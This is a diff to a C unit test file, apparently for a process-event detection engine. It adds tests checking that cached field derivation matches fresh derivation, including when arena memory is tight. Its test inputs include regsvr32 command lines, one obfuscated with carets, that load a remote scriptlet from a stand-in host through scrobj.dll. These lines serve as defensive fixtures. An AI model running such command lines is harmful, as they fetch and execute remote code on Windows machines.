@@ -3,7 +3,8 @@
 
 enum { RUNS = 3000, LONG = 3000 };
 
-static char long_line[LONG + 1];
+/* Beside what is too long to be kept: values that share bytes as read, and do not as copied. */
+static char long_line[LONG + 1], long_url[400], long_image[200];
 
 /* Few of each, so that all of it comes again; each input changes what is derived. */
 static const char *const lines[] = {
@@ -14,9 +15,12 @@ static const char *const lines[] = {
 	"cmd /c reg^svr32 /s /n /u /i:http://h/a.sct scr^obj.dll",
 	"",
 	long_line,
+	long_url,
+	"regsvr32 /s %windir%\\%temp%\\%appdata%\\..\\%x%\\%y%\\%z%\\a.jpg",
 };
 static const char *const images[] = { NULL, "C:\\Windows\\System32\\regsvr32.exe",
-	                              "C:\\Users\\bob\\a.exe", "C:\\Windows\\System32\\cmd.exe" };
+	                              "C:\\Users\\bob\\a.exe", "C:\\Windows\\System32\\cmd.exe",
+	                              long_image };
 static const char *const parents[] = { NULL, "C:\\Windows\\explorer.exe",
 	                               "C:\\Users\\bob\\AppData\\Local\\Temp\\w.exe" };
 static const char *const originals[] = { NULL, "REGSVR32.EXE", "Cmd.Exe" };
@@ -81,13 +85,21 @@ static void assert_same(const struct derived *a, const struct derived *b)
 	}
 }
 
+static void make_long(void)
+{
+	memset(long_line, 'a', LONG);
+	(void)snprintf(long_url, sizeof(long_url),
+	               "regsvr32 /s /u /i:http://a.example/%.307s.sct scrobj.dll", long_line);
+	(void)snprintf(long_image, sizeof(long_image), "C:\\%.170s.exe", long_line);
+}
+
 static void looked_up_is_as_if_it_were_read(void **state)
 {
 	struct sq_recall *known = sq_recall_new();
 
 	(void)state;
 	assert_non_null(known);
-	memset(long_line, 'a', LONG);
+	make_long();
 	for (int run = 0; run < RUNS; run++) {
 		struct derived d, plain;
 
@@ -98,6 +110,36 @@ static void looked_up_is_as_if_it_were_read(void **state)
 		assert_same(&plain, &d);
 		derived_fini(&plain);
 		derived_fini(&d);
+	}
+	sq_recall_free(known);
+}
+
+/* However much room there is in the arena, to the byte. */
+static void with_little_room_it_is_the_same(void **state)
+{
+	static const char *const tight[] = { long_url, "x", "",
+		                             "regsvr32 /s %a%\\%b%\\%c%\\..\\d.dll" };
+	struct sq_recall *known = sq_recall_new();
+
+	(void)state;
+	assert_non_null(known);
+	make_long();
+	for (size_t i = 0; i < SQ_LEN(tight); i++) {
+		for (size_t room = 4096; room--;) { /* learnt while there is enough */
+			struct derived d, plain;
+
+			derived_init(&d);
+			derived_put(&d, SQ_F_COMMAND_LINE, tight[i]);
+			derived_put(&d, SQ_F_IMAGE, i % 2 ? long_image : images[1]);
+			if (room < 4090)
+				d.arena.used = d.arena.cap - room;
+			make_copy(&plain, &d);
+			sq_derive(&plain.ev, &plain.arena, SQ_DERIVE_ALL);
+			sq_derive_again(known, &d.ev, &d.arena, SQ_DERIVE_ALL);
+			assert_same(&plain, &d);
+			derived_fini(&plain);
+			derived_fini(&d);
+		}
 	}
 	sq_recall_free(known);
 }
@@ -126,7 +168,7 @@ static void what_came_before_is_known(void **state)
 
 	(void)state;
 	assert_non_null(known);
-	memset(long_line, 'a', LONG);
+	make_long();
 	assert_false(is_known(known, long_line));
 	assert_false(is_known(known, long_line)); /* too long to be kept */
 	for (int i = 0; i < 100; i++) {
@@ -142,6 +184,7 @@ int main(void)
 {
 	const struct CMUnitTest tests[] = {
 		cmocka_unit_test(looked_up_is_as_if_it_were_read),
+		cmocka_unit_test(with_little_room_it_is_the_same),
 		cmocka_unit_test(what_came_before_is_known),
 	};
 
